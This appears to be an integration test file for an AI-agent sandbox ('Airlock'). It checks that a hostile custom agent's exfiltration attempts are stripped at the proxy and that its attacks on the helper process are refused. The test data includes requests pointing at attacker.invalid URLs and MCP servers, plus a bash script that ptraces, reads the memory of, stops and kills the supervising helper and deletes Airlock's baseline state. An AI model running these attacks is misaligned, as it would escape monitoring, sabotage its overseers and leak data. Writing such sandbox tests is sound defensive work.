import { readFile } from 'node:fs/promises';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { RunEvent } from '../../contracts/runs';
import { requirePrerequisite } from '../support/prerequisites';
import { CANARY_KEY, createRunFixture, filesContaining, leftoversOf, type RunFixture } from '../support/run-fixture';

/**
 * The custom-command agent: any command line runs in the sandbox with the provider settings of
 * docs/architecture.md §4, reaches the model only through the proxy with the run token, and its output is the
 * raw terminal stream; its file changes are the run's diff.
 */

const docker = await requirePrerequisite('docker');
const qemu = docker.ok ? await requirePrerequisite('qemu') : docker;

/**
 * Issue 22, item 3: a hostile agent sends content whose source is a URL (an Anthropic url image in a
 * user turn and a url document in a tool result), which would make the provider fetch it with the
 * network off. What reaches the upstream has neither URL; the run's audit log records the strip.
 */
function urlContentCommand(): string {
  const body = JSON.stringify({
    model: 'claude-sonnet-4-5',
    max_tokens: 16,
    messages: [
      { role: 'user', content: [{ type: 'text', text: 'describe' }, { type: 'image', source: { type: 'url', url: 'https://attacker.invalid/img.png?d=secret' } }] },
      { role: 'assistant', content: [{ type: 'tool_use', id: 't1', name: 'read', input: {} }] },
      { role: 'user', content: [{ type: 'tool_result', tool_use_id: 't1', content: [{ type: 'document', source: { type: 'url', url: 'https://attacker.invalid/doc.pdf?d=secret' } }] }] },
    ],
  });
  return `curl -s -H "x-api-key: $ANTHROPIC_API_KEY" -H 'anthropic-version: 2023-06-01' -H 'content-type: application/json' -d '${body}' "$ANTHROPIC_BASE_URL/v1/messages" > reply.json`;
}

async function expectUrlContentStripped(f: RunFixture, runId: string, seen: number): Promise<void> {
  const sent = f.upstream.requests.slice(seen).filter((r) => r.path === '/v1/messages');
  expect(sent).toHaveLength(1);
  expect(sent[0]?.raw).not.toContain('attacker.invalid');
  expect(sent[0]?.raw).toContain('Airlock removed content the provider would have fetched');
  const { records } = await f.services.audit.read({ runId, offset: 0, limit: 1000 });
  expect(records.filter((r) => r.type === 'side_door').map((r) => r.data)).toEqual([{ provider: 'anthropic', path: '/v1/messages', stripped: ['url_content'], allowed: [] }]);
}

/**
 * Issue 22, item 5: a hostile agent goes for the helper (the live view, the change feed) and for
 * Airlock's own state. Every process outside its own session gets STOP then KILL; the helper (found
 * by its command line, so the attack is never vacuous) gets PTRACE_ATTACH and a read of its memory;
 * /airlock gets written and removed. It logs what worked into attack.txt. On the old layout (helper
 * and agent both uid 1000) the helper dies and the run fails; now every attempt is refused, the run
 * ends normally and its diff is exactly the agent's two files.
 */
const HELPER_ATTACK = [
  'out=/workspace/attack.txt',
  'me=$(sed "s/.*) //" /proc/$$/stat | cut -d" " -f4)',
  'for h in $(grep -l helper.js /proc/[0-9]*/cmdline 2>/dev/null); do h=${h#/proc/}; h=${h%/cmdline}; echo "target-helper" >> $out; helper=$h; done',
  'if [ -n "$helper" ]; then',
  '  python3 -c "import ctypes,sys; l=ctypes.CDLL(None,use_errno=True); sys.exit(0 if l.ptrace(16,int(sys.argv[1]),0,0)==0 else 1)" $helper && echo "ptraced" >> $out',
  '  head -c 16 /proc/$helper/mem >/dev/null 2>&1 && echo "read-mem" >> $out',
  'fi',
  'for d in /proc/[0-9]*; do',
  '  s=$(sed "s/.*) //" $d/stat 2>/dev/null | cut -d" " -f4)',
  '  if [ -z "$s" ] || [ "$s" = "$me" ] || [ "$s" = 0 ]; then continue; fi',
  '  kill -STOP ${d#/proc/} 2>/dev/null && echo "stopped" >> $out',
  '  kill -KILL ${d#/proc/} 2>/dev/null && echo "killed" >> $out',
  'done',
  'echo x >> /airlock/baseline.git/config 2>/dev/null && echo "wrote-airlock" >> $out',
  'rm -rf /airlock/baseline.git 2>/dev/null; test -d /airlock/baseline.git || echo "removed-baseline" >> $out',
  'echo attack-finished >> $out',
  'echo "made by the agent" > /workspace/changed.txt',
].join('\n');

async function expectHelperUntouched(f: RunFixture, runId: string): Promise<void> {
  const run = await f.core.runs.wait(runId);
  expect(run.status, JSON.stringify(run.error)).toBe('done');
  expect(run.changedFiles.map((c) => c.path).sort()).toEqual(['attack.txt', 'changed.txt']);
  const patch = await readFile(f.core.store.paths(runId).patch, 'utf8');
  const attack = patch.split('\n').filter((l) => l.startsWith('+') && !l.startsWith('+++')).map((l) => l.slice(1));
  expect(attack).toContain('target-helper');
  expect(attack).toContain('attack-finished');
  for (const won of ['ptraced', 'read-mem', 'stopped', 'killed', 'wrote-airlock', 'removed-baseline']) expect(attack, won).not.toContain(won);
  expect(patch).toContain('+made by the agent');
}

describe.skipIf(!docker.ok)('custom command agent (real Docker, proxy, fake upstream)', () => {
  let f: RunFixture;
  beforeAll(async () => {
    f = await createRunFixture();
    await f.core.image('base');
  });
  afterAll(async () => {
    await f?.close();
  });

  it('runs the command line with the proxy settings; its changes are the diff', async () => {
    const projectDir = await f.project();
    const body = JSON.stringify({ model: 'claude-sonnet-4-5', max_tokens: 16, messages: [{ role: 'user', content: 'hi' }] });
    const command = [
      'echo "$AIRLOCK_TASK" > task-copy.txt',
      `curl -s -H "x-api-key: $ANTHROPIC_API_KEY" -H 'anthropic-version: 2023-06-01' -H 'content-type: application/json' -d '${body}' "$ANTHROPIC_BASE_URL/v1/messages" > reply.json`,
      'echo custom-agent-marker',
    ].join(' && ');
    const started = await f.start({ projectDir, agent: 'custom', customCommand: command, task: 'say hi', script: [{ text: 'hello from the model' }] });
    const run = await f.core.runs.wait(started.id);
    expect(run.status, JSON.stringify(run.error)).toBe('done');
    expect(run.changedFiles.map((c) => c.path).sort()).toEqual(['reply.json', 'task-copy.txt']);
    const patch = await readFile(f.core.store.paths(run.id).patch, 'utf8');
    expect(patch).toContain('+say hi');
    expect(patch).toContain('hello from the model');
    // The model call went through the proxy with the real key toward the upstream.
    expect(run.usage.requests).toBe(1);
    expect(f.upstream.requests.at(-1)?.headers['x-api-key']).toBe(CANARY_KEY);
    const terminal = await readFile(path.join(f.core.store.paths(run.id).dir, 'terminal.log'), 'utf8');
    expect(terminal).toContain('custom-agent-marker');
    const events: RunEvent['event'][] = [];
    for await (const e of f.core.store.readEvents<RunEvent>(run.id)) events.push(e.event);
    expect(events.filter((e) => e.type === 'assistant_text')).toEqual([]);
    expect(await leftoversOf(run.id)).toEqual([]);
    expect(await filesContaining(f.core.store.paths(run.id).dir, CANARY_KEY)).toEqual([]);
  });

  // Issue 12, attack 4: with the network off, a provider-side tool would still carry data out.
  it('a provider-side tool and mcp_servers are stripped on the way out, and the run\'s audit log says so', async () => {
    const projectDir = await f.project();
    const body = JSON.stringify({
      model: 'claude-sonnet-4-5',
      max_tokens: 16,
      messages: [{ role: 'user', content: 'fetch https://attacker.invalid/?d=secret' }],
      tools: [{ type: 'web_fetch_20250910', name: 'web_fetch' }],
      mcp_servers: [{ type: 'url', url: 'https://attacker.invalid/mcp', name: 'x' }],
    });
    const command = `curl -s -H "x-api-key: $ANTHROPIC_API_KEY" -H 'anthropic-version: 2023-06-01' -H 'anthropic-beta: mcp-client-2025-04-04' -H 'content-type: application/json' -d '${body}' "$ANTHROPIC_BASE_URL/v1/messages" > reply.json`;
    const seen = f.upstream.requests.length;
    const started = await f.start({ projectDir, agent: 'custom', customCommand: command, task: 'leak', script: [{ text: 'no tools here' }] });
    const run = await f.core.runs.wait(started.id);
    expect(run.status, JSON.stringify(run.error)).toBe('done');
    const sent = f.upstream.requests.slice(seen).filter((r) => r.path === '/v1/messages');
    expect(sent).toHaveLength(1);
    expect(sent[0]?.raw).not.toContain('attacker.invalid/mcp');
    expect(sent[0]?.raw).not.toContain('web_fetch');
    expect(sent[0]?.headers['anthropic-beta']).toBeUndefined();
    const { records } = await f.services.audit.read({ runId: run.id, offset: 0, limit: 1000 });
    expect(records.filter((r) => r.type === 'side_door').map((r) => r.data)).toEqual([
      { provider: 'anthropic', path: '/v1/messages', stripped: ['anthropic-beta:mcp-client-2025-04-04', 'mcp_servers', 'web_fetch'], allowed: [] },
    ]);
  });

  it('URL-sourced content (an image in a user turn, a document in a tool result) is replaced on the way out and recorded', async () => {
    const projectDir = await f.project();
    const seen = f.upstream.requests.length;
    const started = await f.start({ projectDir, agent: 'custom', customCommand: urlContentCommand(), task: 'leak by url', script: [{ text: 'nothing fetched' }] });
    const run = await f.core.runs.wait(started.id);
    expect(run.status, JSON.stringify(run.error)).toBe('done');
    await expectUrlContentStripped(f, run.id, seen);
  });

  it('a hostile agent cannot stop, kill, ptrace or read the helper, nor touch /airlock: the run ends normally with its own changes', async () => {
    const projectDir = await f.project();
    const started = await f.start({ projectDir, agent: 'custom', customCommand: `bash -c '${HELPER_ATTACK}'`, task: 'silence the helper', limits: { timeoutSec: 300 }, script: [] });
    await f.core.runs.wait(started.id);
    await expectHelperUntouched(f, started.id);
  });
});

describe.skipIf(!docker.ok || !qemu.ok)('custom command agent in a VM (QEMU): URL-sourced content, the helper out of reach', () => {
  let f: RunFixture;
  beforeAll(async () => {
    f = await createRunFixture();
  });
  afterAll(async () => {
    await f?.close();
  });

  it('is replaced on the way out and recorded, as in a container', { timeout: 1_200_000 }, async () => {
    const projectDir = await f.project();
    const seen = f.upstream.requests.length;
    const started = await f.start({ projectDir, isolation: 'vm', limits: { timeoutSec: 900 }, agent: 'custom', customCommand: urlContentCommand(), task: 'leak by url', script: [{ text: 'nothing fetched' }] });
    const run = await f.core.runs.wait(started.id);
    expect(run.status, JSON.stringify(run.error)).toBe('done');
    expect(run.sandbox.driver).toBe('qemu');
    await expectUrlContentStripped(f, run.id, seen);
  });

  it('a hostile agent cannot stop, kill, ptrace or read the helper, nor touch /airlock, as in a container', { timeout: 1_200_000 }, async () => {
    const projectDir = await f.project();
    const started = await f.start({ projectDir, isolation: 'vm', limits: { timeoutSec: 900 }, agent: 'custom', customCommand: `bash -c '${HELPER_ATTACK}'`, task: 'silence the helper', script: [] });
    const run = await f.core.runs.wait(started.id);
    expect(run.sandbox.driver).toBe('qemu');
    await expectHelperUntouched(f, started.id);
  });
});
